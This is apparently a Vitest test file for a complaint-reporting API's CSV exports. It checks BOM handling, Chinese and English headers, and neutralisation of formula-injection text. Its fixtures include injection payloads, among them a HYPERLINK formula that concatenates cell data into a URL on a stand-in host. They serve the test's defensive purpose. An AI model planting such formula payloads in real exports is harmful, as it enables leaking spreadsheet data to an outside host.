import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralise, toCsv } from '../api/csv';
import type { Column } from '../api/export';
import { xlsxType } from '../api/xlsx';
import { monthBounds } from '../db/reports';
import { shanghaiDate } from '../workflows/calendar';
import { credentials, keys, startApiHarness, type ApiHarness } from './helpers/api';
import { uniqueId } from './helpers/cases';
import { reportRows } from './helpers/report-rows';

const DAY = 86_400_000;
const BOM = '\uFEFF';

let h: ApiHarness;
let readSide: ReturnType<typeof reportRows>;
const seed: ReturnType<typeof reportRows>['seed'] = (...args) => readSide.seed(...args);

// Text an attacker controls (district, polluter, unit), each starting with a formula character.
const district = `=HYPERLINK("http://x.example/"&A1)-${uniqueId('d')}`;
const shrinking = `=${uniqueId('shrinking')}`;
const polluter = `@SUM(1+1)-${uniqueId('p')}`;
const unit = `+${uniqueId('unit')}`;
const month = shanghaiDate(Date.now()).slice(0, 7);
const from = shanghaiDate(Date.now() - 20 * DAY);
const to = shanghaiDate(Date.now() + DAY);
let oldCase = '';

beforeAll(async () => {
  h = await startApiHarness('reports-csv');
  readSide = reportRows(h.database.db, 'csv');
  const now = Date.now();
  // This month: two wechat noise reports about one polluter in the formula district.
  const here = { location: { address: `甲路 ${uniqueId('a')} 号`, district }, polluter, channel: 'wechat' as const, category: 'noise' };
  await seed(here, new Date(now - 60_000));
  await seed(here, new Date(now - 120_000));
  // The month before: one report in a district with none this month, so its change is -1.
  const previousMonth = new Date(monthBounds(month).start.getTime() - DAY);
  await seed({ location: { address: `乙路 ${uniqueId('b')} 号`, district: shrinking } }, previousMonth);
  // The same month a year before: one closed report in the formula district, so its 同比 is +100%.
  const lastYear = new Date(monthBounds(month).lastYearStart.getTime() + DAY);
  await seed({ location: { address: `丁路 ${uniqueId('y')} 号`, district } }, lastYear, { status: 'closed' });
  // An open case older than any other, overdue at a unit whose code starts with `+`.
  oldCase = await seed({ location: { address: `丙路 ${uniqueId('c')} 号`, district: uniqueId('old') } }, new Date('2005-01-03T02:00:00.000Z'), {
    status: 'in_progress',
    overdue: true,
    handlingUnit: unit,
  });
});

afterAll(async () => {
  await readSide?.remove();
  await h?.close();
});

const get = (url: string, accept = 'application/json') => h.app.inject({ method: 'GET', url, headers: { ...credentials(keys.supervisor), accept } });
const rowsOf = (body: string) => parse<Record<string, string>>(body, { bom: true, columns: true });

describe('the CSV helper', () => {
  it("puts a ' before text starting with =, +, -, @, tab or CR, and leaves numbers (negative too) as numbers", () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralise(`${start}1+1`)).toBe(`'${start}1+1`);
    expect(neutralise('南城 =1')).toBe('南城 =1');
    const columns: Column<{ text: string; n: number }>[] = [
      { header: { 'zh-CN': '文本', en: 'text' }, cell: (r) => r.text },
      { header: { 'zh-CN': '数量', en: 'n' }, cell: (r) => r.n },
    ];
    const csv = toCsv(
      columns,
      [
        { text: '-2', n: -3 },
        { text: 'a\nb', n: 0 },
      ],
      'en',
    );
    // A lone LF inside a cell is quoted, or Excel would start a new record there.
    expect(csv).toBe(`${BOM}text,n\r\n'-2,-3\r\n"a\nb",0\r\n`);
  });
});

describe('CSV reports', () => {
  it('start with a BOM, come as a dated download, and speak Chinese by default', async () => {
    const response = await get(`/reports/kpi?from=${from}&to=${to}&district=${encodeURIComponent(district)}`, 'text/csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="kpi-${from}_${to}.csv"`);
    expect(response.body.split('\r\n')[0]).toBe(`${BOM}指标,分子,分母,比率`);
    expect(rowsOf(response.body).map((r) => r['指标'])).toEqual(['及时受理率', '按期办结率', '办理规范率', '群众满意率', '一次办理满意率']);
  });

  it('answer ?format=csv without an Accept header, and format=json wins over Accept with the JSON as before', async () => {
    const url = `/reports/kpi?from=${from}&to=${to}&district=${encodeURIComponent(district)}`;
    const csv = await h.app.inject({ method: 'GET', url: `${url}&format=csv`, headers: credentials(keys.supervisor) });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(rowsOf(csv.body)).toHaveLength(5);
    const json = await get(url);
    const forced = await get(`${url}&format=json`, 'text/csv');
    expect(forced.headers['content-type']).toMatch(/^application\/json/);
    expect(forced.headers['content-disposition']).toBeUndefined();
    expect(forced.json()).toEqual(json.json());
    expect(json.json().timelyAcceptance).toEqual({ numerator: 0, denominator: 0, value: null });
  });

  it('neutralise formula text in the monthly counts, keep the changes numeric, and translate channels and categories', async () => {
    const response = await get(`/reports/monthly?month=${month}&format=csv`);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="monthly-${month}.csv"`);
    const rows = rowsOf(response.body);
    expect(Object.keys(rows[0] ?? {})).toEqual(['维度', '项目', '本月', '上月', '环比变化', '环比', '去年同期', '同比变化', '同比']);
    // 环比 has no base (nothing the month before): an empty cell, not 0 or infinity.
    expect(rows).toContainEqual({ 维度: '区县', 项目: `'${district}`, 本月: '2', 上月: '0', 环比变化: '2', 环比: '', 去年同期: '1', 同比变化: '1', 同比: '1' });
    expect(rows).toContainEqual({
      维度: '区县',
      项目: `'${shrinking}`,
      本月: '0',
      上月: '1',
      环比变化: '-1',
      环比: '-1',
      去年同期: '0',
      同比变化: '0',
      同比: '',
    });
    expect(rows.find((r) => r['维度'] === '渠道' && r['项目'] === '微信')).toBeDefined();
    expect(rows.find((r) => r['维度'] === '类别' && r['项目'] === '噪声')).toBeDefined();
    // No raw code is left where a label exists.
    expect(rows.some((r) => r['项目'] === 'wechat' || r['项目'] === 'noise')).toBe(false);
  });

  it('keep English headers and codes with lang=en, still neutralised', async () => {
    const response = await get(`/reports/monthly?month=${month}&format=csv&lang=en`);
    const rows = rowsOf(response.body);
    expect(response.body.startsWith(`${BOM}dimension,key,count,previous,change,changeRate,lastYear,yearChange,yearChangeRate\r\n`)).toBe(true);
    expect(rows).toContainEqual({
      dimension: 'district',
      key: `'${district}`,
      count: '2',
      previous: '0',
      change: '2',
      changeRate: '',
      lastYear: '1',
      yearChange: '1',
      yearChangeRate: '1',
    });
    expect(rows.find((r) => r.dimension === 'channel' && r.key === 'wechat')).toBeDefined();
  });

  it('neutralise a polluter in the hotspots', async () => {
    const response = await get(`/reports/hotspots?from=${from}&to=${to}&format=csv`);
    expect(response.headers['content-disposition']).toBe(`attachment; filename="hotspots-${from}_${to}.csv"`);
    const rows = rowsOf(response.body);
    expect(rows.find((r) => r['名称'] === `'${polluter}`)).toMatchObject({ 类型: '污染源', 数量: '2' });
    expect(rows.some((r) => r['名称'] === polluter)).toBe(false);
  });

  it('list the oldest open cases in the backlog with Chinese statuses, and the unit neutralised', async () => {
    const before = shanghaiDate(Date.now());
    const response = await get('/reports/backlog?olderThanDays=3650&format=csv');
    const after = shanghaiDate(Date.now());
    expect([`attachment; filename="backlog-${before}.csv"`, `attachment; filename="backlog-${after}.csv"`]).toContain(response.headers['content-disposition']);
    const rows = rowsOf(response.body);
    expect(rows.find((r) => r['项目'] === oldCase)).toEqual({
      分类: '积案明细',
      项目: oldCase,
      数量: '',
      状态: '办理中',
      登记时间: '2005-01-03 10:00:00',
      承办单位: `'${unit}`,
    });
    expect(rows.find((r) => r['分类'] === '超期' && r['项目'] === `'${unit}`)?.['数量']).toBe('1');
    const en = rowsOf((await get('/reports/backlog?olderThanDays=3650&format=csv&lang=en')).body);
    expect(en.find((r) => r.key === oldCase)).toMatchObject({ section: 'oldest', status: 'in_progress', registeredAt: '2005-01-03T02:00:00.000Z' });
  });

  it('give exactly the header row for an empty period', async () => {
    const monthly = await get('/reports/monthly?month=2001-01&format=csv');
    expect(monthly.statusCode).toBe(200);
    expect(monthly.body).toBe(`${BOM}维度,项目,本月,上月,环比变化,环比,去年同期,同比变化,同比\r\n`);
    const hotspots = await get('/reports/hotspots?from=2001-01-01&to=2001-01-31&format=csv&lang=en');
    expect(hotspots.body).toBe(`${BOM}type,key,label,count,previous\r\n`);
  });

  it('declare format and lang on every report, and CSV and xlsx as responses, in the OpenAPI document', async () => {
    const doc = (await h.app.inject({ method: 'GET', url: '/openapi.json' })).json();
    for (const path of ['/reports/kpi', '/reports/monthly', '/reports/hotspots', '/reports/backlog']) {
      const operation = doc.paths[path].get;
      const names = (operation.parameters as { name: string; in: string }[]).filter((p) => p.in === 'query').map((p) => p.name);
      expect(names, path).toEqual(expect.arrayContaining(['format', 'lang']));
      expect(Object.keys(operation.responses['200'].content), path).toEqual(['application/json', 'text/csv', xlsxType]);
    }
  });
});
